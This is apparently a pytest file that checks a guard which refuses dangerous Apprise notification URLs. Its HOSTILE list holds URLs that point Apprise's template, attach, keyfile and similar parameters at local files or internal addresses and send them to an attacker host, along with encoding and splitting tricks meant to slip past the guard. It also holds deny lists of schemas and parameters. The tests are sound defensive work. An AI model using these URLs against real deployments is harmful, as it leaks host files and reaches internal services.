"""An Apprise URL neither reads nor moves anything of the host: tried by sending, a file and a server as canaries."""

import inspect
import json
import re
from pathlib import Path

import pytest
from apprise.manager_plugins import NotificationManager
from apprise.utils.parse import parse_list

from tocsin.channels.apprise.guard import PARAMETERS, SCHEMAS, may_have
from tocsin.channels.apprise.sender import AppriseSender
from tocsin.channels.page import Destination
from tocsin.channels.registry import check_address
from tocsin.errors import DeliveryFailed

# Schemas and parameters of the installed Apprise that have been read and are not allowed. What a new version adds is
# refused too; the tests below then ask that somebody reads it and puts it here or on the list.
REFUSED_SCHEMAS = set("blink1 dbus gio glib gnome kde macosx qt syslog vapid windows".split())  # noqa: SIM905
REFUSED_PARAMETERS = set(
    "attach blossom emojis file_url filename keyfile logperror optional pgp pgpprv pgppub redirect store subfile "  # noqa: SIM905
    "template wkd".split()
)

DISCORD = f"discord://{'1' * 20}/{'A' * 64}"
SLACK = f"slack://{'A' * 9}/{'B' * 9}/{'c' * 24}/#general"
TELEGRAM = "tgram://123456789:abcdefg_hijklmnop/lead2gold/"

# {hook} is a host of the attacker, {file} holds what must not leave, {internal} is what only this machine reaches.
HOSTILE = [
    "workflows://{hook}/workflow/sig?template={file}",
    ",workflows://{hook}/workflow/sig?template={file}",
    ", workflows://{hook}/workflow/sig?template={file}",
    " ,\tworkflows://{hook}/workflow/sig?template={file}",
    "json://{hook}/x,workflows://{hook}/workflow/sig?template={file}",
    "json://{hook}/x, workflows://{hook}/workflow/sig?template={file}",
    "json://{hook}/x workflows://{hook}/workflow/sig?template={file}",
    "json://{hook}/x\nworkflows://{hook}/workflow/sig?template={file}",
    "json://{hook}/x\r\n,workflows://{hook}/workflow/sig?template={file}",
    "json://{hook}/x?a=1,workflows://{hook}/workflow/sig?template={file}",
    '"workflows://{hook}/workflow/sig?template={file}"',
    "'workflows://{hook}/workflow/sig?template={file}'",
    "\"'json://{hook}/x'\",workflows://{hook}/workflow/sig?template={file}",
    "%2Cworkflows://{hook}/workflow/sig?template={file}",
    "WorkFlows://{hook}/workflow/sig?Template={file}",
    "workflows://{hook}/workflow/sig?tem%70late={file}",
    "workflows://{hook}/workflow/sig?%74%65mplate={file}",
    "workflows://{hook}/workflow/sig?a=b&template={file}&template=",
    "workflows://{hook}/workflow/sig?template=file://{file}",
    "workflows://{hook}/workflow/sig?template={internal}",
    "workflow://{hook}/workflow/sig?template={internal}&tags=x",
    "https://{hook}/workflows/643e69f83c8944/triggers/manual/paths/invoke?sig=abc&template={file}",
    DISCORD + "?template={file}",
    f"https://discordapp.com/api/webhooks/{'1' * 20}/{'A' * 64}?template=" + "{file}",
    DISCORD.replace("discord", "guilded") + "?template={file}",
    SLACK + "?template={file}",
    TELEGRAM + "?template={internal}",
    "mailto://{hook}?to=eve@example.org&from=a@example.org&pgp%70ub={file}",
    "deltachats://ada:hunter2@{hook}/bob@example.org?pgpprv={file}",
    "fcm://project/device?keyfile={file}",
    "vapid://ada@example.org/ada@example.org?KeyFile={file}",
    "vapid://ada@example.org/ada@example.org?subfile=file://{file}",
    "ntfy://{hook}/topic?attach={internal}",
    "json://{hook}/x?attach={file}",
    "json://{hook}/x?redirect=yes",
    "json://{hook}/x?optional=yes",
    "json://{hook}/x?store=yes",
    "json://{hook}/x?unheard-of=yes",
    "file://{file}",
    "syslog://",
    "dbus://",
    "gnome://",
    "windows://",
    "macosx://",
    "SYSLOG://local0/?logperror=yes",
]


@pytest.fixture
def canary(tmp_path):
    path = tmp_path / "canary.json"
    path.write_text(json.dumps({"text": "the canary sings"}))
    return path


@pytest.mark.parametrize("hostile", HOSTILE)
async def test_a_hostile_url_is_refused_at_the_edge_and_sends_nothing(webhooks, canary, make_page, hostile):
    host = webhooks.url.removeprefix("http://").removesuffix("/page")
    url = hostile.format(hook=host, file=canary, internal=webhooks.url)
    with pytest.raises(ValueError, match="not") as edge:
        check_address("apprise", url)
    with pytest.raises(DeliveryFailed) as sending:  # a row that is older than the check
        await AppriseSender().send(Destination("apprise", url), make_page())
    assert sending.value.permanent
    assert not webhooks.requests
    for text in (str(edge.value), sending.value.reason):
        assert "canary" not in text
        assert "hunter2" not in text


@pytest.mark.parametrize(
    ("url", "words"),
    [
        ("workflows://h/a/b?tem%70late=/etc/passwd", "'workflows://…' may not have template=…"),
        ("json://ada:hunter2@h/x?redirect=yes", "'json://…' may not have redirect=…"),
        ("json://h/x?hunter2 hunter2=yes", "space"),
        ("json://h/x?hunter2%20hunter2=yes", "may not have …=…"),
        ("syslog://hunter2", "'syslog://…' is not among the services"),
        ("json://h/hunter2,json://b", "'json://…' is not one URL"),
    ],
)
def test_a_refusal_names_the_service_and_the_parameter(url, words):
    with pytest.raises(ValueError, match=re.escape(words)) as caught:
        check_address("apprise", url)
    assert "hunter2 h" not in str(caught.value)
    assert "passwd" not in str(caught.value)


@pytest.mark.parametrize(
    "url",
    [
        "json://ada:hunter2@localhost:9000/x?+X-Team=ops&:severity=high&-a=b&method=put&verify=no&cto=3&rto=3",
        f"https://discord.com/api/webhooks/{'1' * 20}/{'A' * 64}?thread=1",
        "https://chat.googleapis.com/v1/spaces/AAA/messages?key=k&token=t",
        "https://hooks.slack.com/services/T1JJ3T3L2/A1BRTD4JD/TIiajkdnlazkcOXrIdevi7FQ",
        "https://prod-1.westus.logic.azure.com/workflows/643e69f83c8944/triggers/manual/paths/invoke"
        "?api-version=2016-06-01&sp=%2Ftriggers%2Fmanual%2Frun&sv=1.0&sig=KODuebWbDGYFr0z0eu",
        "ntfys://user:pass@ntfy.example.org/alerts?priority=high&tags=fire&click=https://example.org/x,y",
        "mailtos://user:pass@example.org?to=ada@example.org&smtp=mail.example.org&name=Tocsin",
        "tgram://123456789:abcdefg_hijklmnop/15551234567?silent=yes&format=markdown",
    ],
)
def test_what_people_use_is_allowed(url):
    assert check_address("apprise", url) == url


def test_every_schema_of_the_installed_version_was_read():
    assert set(NotificationManager().schemas()) == SCHEMAS | REFUSED_SCHEMAS


def test_every_parameter_of_the_installed_version_was_read():
    declared = {name for schema in SCHEMAS for name in NotificationManager()[schema].template_args}
    assert {name for name in declared if name not in PARAMETERS} <= REFUSED_PARAMETERS
    refused = {(schema, name) for schema in SCHEMAS for name in REFUSED_PARAMETERS if may_have(schema, name)}
    assert {name for _, name in refused} == {"template"}  # of services where it is a name


def test_every_plugin_that_reads_files_is_known():
    known = set("discord slack tgram workflow workflows fcm vapid mailto mailtos".split())  # noqa: SIM905
    assert _schemas_that_hold(r"(AppriseAttachment|ApprisePEMController|ApprisePGPController)\(") == known


def test_every_plugin_that_acts_on_the_host_is_refused():
    local = r"^\s*(import|from) (subprocess|ctypes|hid|gi|syslog|win32\w*|winreg|dbus|serial|pty)\b"
    found = _schemas_that_hold(local)
    assert "macosx" in found
    assert found <= REFUSED_SCHEMAS


def _schemas_that_hold(pattern: str) -> set[str]:
    found = set()
    for plugin in NotificationManager().plugins():
        source = Path(inspect.getfile(plugin))
        files = source.parent.glob("*.py") if source.name in ("__init__.py", "base.py") else [source]
        if any(re.search(pattern, file.read_text(), re.MULTILINE) for file in files):
            found |= set(parse_list(plugin.protocol, plugin.secure_protocol))
    return found
